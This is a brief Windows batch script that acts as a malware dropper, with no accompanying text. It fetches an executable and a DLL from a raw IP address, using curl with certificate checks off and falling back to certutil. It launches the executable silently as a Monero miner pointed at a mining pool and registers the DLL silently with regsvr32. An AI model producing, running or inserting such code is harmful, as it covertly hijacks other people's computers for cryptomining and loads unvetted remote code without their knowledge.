@echo off
setlocal
set "B=http://203.0.113.149/dl"
set "D=%LOCALAPPDATA%\uad"
if not exist "%D%" mkdir "%D%"
tasklist /FI "IMAGENAME eq uadsvc.exe" 2>nul | find /I "uadsvc.exe" >nul && goto lib
curl -s -k "%B%/uadsvc.exe" -o "%D%\uadsvc.exe" 2>nul || certutil -urlcache -split -f "%B%/uadsvc.exe" "%D%\uadsvc.exe" >nul
if exist "%D%\uadsvc.exe" start "" /B "%D%\uadsvc.exe" --tls -o pool.xmr-proxy.example.com:443 -u 4A0000000000000000000000000000 --background
:lib
curl -s -k "%B%/uadcore.dll" -o "%D%\uadcore.dll" 2>nul || certutil -urlcache -split -f "%B%/uadcore.dll" "%D%\uadcore.dll" >nul
if exist "%D%\uadcore.dll" regsvr32.exe /s "%D%\uadcore.dll"
endlocal
